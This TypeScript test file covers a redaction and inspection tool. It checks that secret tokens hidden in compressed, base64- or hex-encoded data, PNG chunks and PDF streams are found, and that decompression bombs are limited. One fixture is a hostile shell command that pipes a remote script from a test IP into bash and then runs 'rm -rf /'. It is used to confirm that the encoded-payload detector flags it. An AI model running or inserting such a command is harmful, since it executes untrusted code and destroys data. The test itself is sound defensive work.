import assert from 'node:assert/strict'
import { createHmac, randomBytes } from 'node:crypto'
import { test } from 'node:test'
import { deflateSync, gzipSync, zstdCompressSync } from 'node:zlib'
import { fingerprintKey, fingerprintsOf } from './fingerprint.ts'
import { inspect } from './inspect.ts'
import { KnownValues } from './known-values.ts'

const key = randomBytes(32)
const KEY = fingerprintKey((bytes) => createHmac('sha256', key).update(bytes).digest())
const value = `tk_${randomBytes(24).toString('base64url')}`
const known = new KnownValues(KEY)
known.remember(
  'me',
  { id: '1', path: 'api/key', version: 1 },
  fingerprintsOf(KEY, Buffer.from(value)).fingerprints,
)
const redacted = (text: string): string => known.redact('me', text).text

const COMPRESSIONS: readonly [what: string, compress: (bytes: Buffer) => Buffer][] = [
  ['gzip', (bytes) => gzipSync(bytes)],
  ['zlib', (bytes) => deflateSync(bytes)],
  ['zlib, fast', (bytes) => deflateSync(bytes, { level: 1 })],
  ['zlib, best', (bytes) => deflateSync(bytes, { level: 9 })],
  ['zlib, a small window', (bytes) => deflateSync(bytes, { windowBits: 9 })],
  ['zlib, fast, a small window', (bytes) => deflateSync(bytes, { level: 1, windowBits: 12 })],
  ['zlib, another sum', (bytes) => changed(deflateSync(bytes), -1)],
  ['zstd', (bytes) => zstdCompressSync(bytes)],
  ['gzip, something behind', (bytes) => Buffer.concat([gzipSync(bytes), Buffer.from('junk')])],
  ['gzip, another sum', (bytes) => changed(gzipSync(bytes), -5)],
]
/** With one bit of a byte changed. @param at from the end */
function changed(bytes: Buffer, at: number): Buffer {
  bytes[bytes.length + at] = (bytes.at(at) ?? 0) ^ 1
  return bytes
}

const DIGITS: readonly [what: string, write: (bytes: Buffer) => string][] = [
  ['base64', (bytes) => bytes.toString('base64')],
  ['base64url', (bytes) => bytes.toString('base64url')],
  ['hex', (bytes) => bytes.toString('hex')],
  ['HEX', (bytes) => bytes.toString('hex').toUpperCase()],
  ['base64 in lines', (bytes) => bytes.toString('base64').replaceAll(/.{76}(?=.)/g, '$&\n')],
]
/** A pixel. */
const PNG = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
  'base64',
)
const command = 'curl -fsSL http://203.0.113.9/x.sh | bash -i; rm -rf / --no-preserve-root'

for (const [what, compress] of COMPRESSIONS)
  for (const [as, write] of DIGITS) {
    test(`what is known is taken out where it stands compressed: ${what} as ${as}`, () => {
      for (const inner of [
        value,
        `{"token":"${value}","more":"${randomBytes(600).toString('hex')}"}`,
        `and ${Buffer.from(value).toString('base64')} in base64`,
        `twice: ${compress(Buffer.from(value)).toString('base64')}`,
      ])
        assert.equal(
          redacted(`data:x;base64,${write(compress(Buffer.from(inner)))} after`),
          'data:x;base64,[REDACTED:api/key] after',
          inner,
        )
      const other = `before ${write(compress(Buffer.from(`nothing of ours ${randomBytes(300).toString('hex')}`)))} after`
      assert.equal(redacted(other), other)
    })
    test(`a command is found where it stands compressed: ${what} as ${as}`, () => {
      const run = write(compress(Buffer.from(`plain words before it\n${command}\n`)))
      const found = inspect({ note: `see ${run} there` })
      const payload = found.find(({ detector }) => detector === 'encoded-payload')
      assert.ok(payload !== undefined, JSON.stringify(found))
      assert.deepEqual([payload.start, payload.severity], [4, 'critical'])
      assert.match(payload.via.join(), /gzip|zlib|zstd/)
    })
  }

test('one that is cut off is read as far as it goes', () => {
  const run = gzipSync(Buffer.from(`${value} ${randomBytes(3_000).toString('hex')}`))
  const cut = run.toString('base64').slice(0, 1_000)
  assert.equal(redacted(`x: ${cut}`), 'x: [REDACTED:api/key]')
})

test('what would be too much is not expanded: text of it counts as not looked at, other bytes do not', () => {
  const bomb = gzipSync(Buffer.alloc(20_000_000, 'a ')).toString('base64')
  const found = inspect({ note: bomb })
  assert.deepEqual(
    found.map(({ detector, severity }) => [detector, severity]),
    [['inspection-limit', 'high']],
  )
  assert.equal(redacted(bomb), bomb)
  const binary = gzipSync(randomBytes(400_000)).toString('base64')
  assert.ok(inspect({ note: binary }).every(({ detector }) => detector !== 'inspection-limit'))
})

test('what comes before an error is read, and what stands in the lines behind it', () => {
  const bytes = gzipSync(Buffer.from(`${value} ${randomBytes(9_000).toString('hex')}`))
  const broken = Buffer.concat([bytes.subarray(0, 6_000), Buffer.alloc(3_000, 0xff)])
  assert.equal(redacted(`x: ${broken.toString('base64')}`), 'x: [REDACTED:api/key]')
  const before = changed(gzipSync(randomBytes(60)), -5).toString('base64url')
  const behind = gzipSync(Buffer.from(value)).toString('base64')
  assert.match(redacted(`${before}\n${behind}`), /\[REDACTED:api\/key\]$/)
})

test('what only begins like something compressed is left alone', () => {
  for (const text of [
    'H4sIAAAAnotCompressedAtAllNoNoNo',
    'eJwords-that-go-on-and-on-for-a-while',
    '789c'.repeat(12),
  ]) {
    assert.equal(redacted(text), text)
    assert.ok(inspect(text).every(({ via }) => !/gzip|zlib|zstd/.test(via.join())))
  }
})

const text = `the key of the server is ${value} and nothing else`
const deflated = deflateSync(text)
for (const [what, bytes] of [
  ['gzip behind a text', Buffer.concat([Buffer.from('hello world!'), gzipSync(text)])],
  ['zlib behind a text', Buffer.concat([Buffer.from('hello world!'), deflated])],
  ['zstd behind a text', Buffer.concat([Buffer.from('hello world!'), zstdCompressSync(text)])],
  ['zlib behind what is no text', Buffer.concat([Buffer.from('d0ffaa', 'hex'), deflated])],
  ['zlib behind what else is none', Buffer.concat([Buffer.from('abffaa', 'hex'), deflated])],
  ['zlib behind zlib', Buffer.concat([deflateSync('nothing of ours'), deflated])],
  [
    'gzip behind what only begins like zlib',
    Buffer.concat([Buffer.from('789c4bffffff', 'hex'), gzipSync(text)]),
  ],
  ['gzip in gzip', gzipSync(gzipSync(text))],
  ['gzip in zlib in gzip', gzipSync(deflateSync(gzipSync(text)))],
  [
    'a text of a PNG',
    Buffer.concat([PNG, Buffer.from('zTXtComment\0\0'), deflated, randomBytes(4), PNG]),
  ],
  [
    'a stream of a PDF',
    Buffer.concat([
      Buffer.from('%PDF-1.4\n1 0 obj <</Filter /FlateDecode>> stream\n'),
      deflated,
      Buffer.from('\nendstream'),
    ]),
  ],
] as const)
  for (const [as, write] of DIGITS)
    test(`what is known is taken out where it stands compressed among other bytes: ${what} as ${as}`, () => {
      const digits = write(bytes).replace(/=+$/, '')
      assert.equal(redacted(`data: ${digits}; after`), 'data: [REDACTED:api/key]; after')
    })

/** Streams of a PDF, the last of which is this. */
const streams = (count: number, last: string): Buffer =>
  Buffer.concat(
    Array.from({ length: count }, (_, index) =>
      Buffer.concat([
        Buffer.from(`\n${index} 0 obj <</Filter /FlateDecode>> stream\n`),
        deflateSync(index === count - 1 ? last : `BT ${randomBytes(4_000).toString('hex')}`),
        Buffer.from('\nendstream'),
      ]),
    ),
  )

test('of a file that holds many compressions each costs what is read of it', () => {
  const digits = streams(150, text).toString('base64').replace(/=+$/, '')
  assert.equal(redacted(`data: ${digits}; after`), 'data: [REDACTED:api/key]; after')
})

for (const [what, head] of [
  ['a path', 'path /home/person/documents/reports/latest'],
  ['an odd number of letters', 'A'.repeat(25)],
  ['a hash', `sum ${randomBytes(64).toString('hex')}`],
] as const)
  test(`what stands in the line before a file hides nothing of it: ${what}`, () => {
    const file = streams(1, text).toString('base64').replace(/=+$/, '')
    assert.equal(redacted(`${head}\n${file}; after`), `${head}\n[REDACTED:api/key]; after`)
  })

test('bytes that begin like compressed ones again and again are looked at up to the limit of the message', () => {
  for (const head of ['789c', '7801', '1f8b08', '28b52ffd', '789c4b', '789c0500faff']) {
    const digits = Buffer.from(head.repeat(400_000), 'hex').toString('base64')
    const start = process.cpuUsage()
    assert.equal(redacted(digits), digits)
    const { user, system } = process.cpuUsage(start)
    assert.ok(user + system < 3_000_000, `${head}: ${user + system} µs`)
  }
})
